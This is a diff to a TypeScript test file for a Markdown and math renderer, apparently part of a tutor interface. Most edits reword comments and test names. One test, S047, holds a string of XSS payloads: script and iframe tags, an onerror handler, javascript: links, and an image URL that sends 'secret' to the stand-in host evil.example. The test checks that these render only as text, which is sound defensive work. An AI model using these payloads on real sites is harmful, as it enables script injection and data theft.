@@ -4,7 +4,7 @@ import { blocksOf, inlinesOf, Markdown } from '../../ui/Markdown.tsx';
 import { loadMaths } from './drawing/drawing.ts';
 import { MathText } from './MathText.tsx';
 
-// KaTeX refuses to draw in quirks mode, which the simulated page claims to be in.
+// KaTeX refuses to render in quirks mode, which happy-dom reports.
 vi.hoisted(() => Object.defineProperty(document, 'compatMode', { value: 'CSS1Compat' }));
 beforeAll(loadMaths);
 afterEach(cleanup);
@@ -22,12 +22,12 @@ describe('a reply of the tutor', () => {
     expect(container.querySelector('strong math')).not.toBeNull();
   });
 
-  it('keeps stars of formulas and lone stars', () => {
+  it('keeps stars in formulas and single stars', () => {
     expect(inlinesOf('$a*b*c$ and 2 * 3')).toEqual([{ kind: 'text', text: '$a*b*c$ and 2 * 3' }]);
     expect(inlinesOf('say *next* now').map(({ kind }) => kind)).toEqual(['text', 'em', 'text']);
   });
 
-  it('S047 is text, whatever a model wrote', () => {
+  it('S047 is rendered as text only, whatever a model wrote', () => {
     const hostile =
       '<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1)) ![x](http://evil.example/?q=secret) $\\href{javascript:alert(1)}{x}$ <iframe src="//evil.example"></iframe>';
     const { container } = render(<Markdown Words={MathText} text={hostile} />);
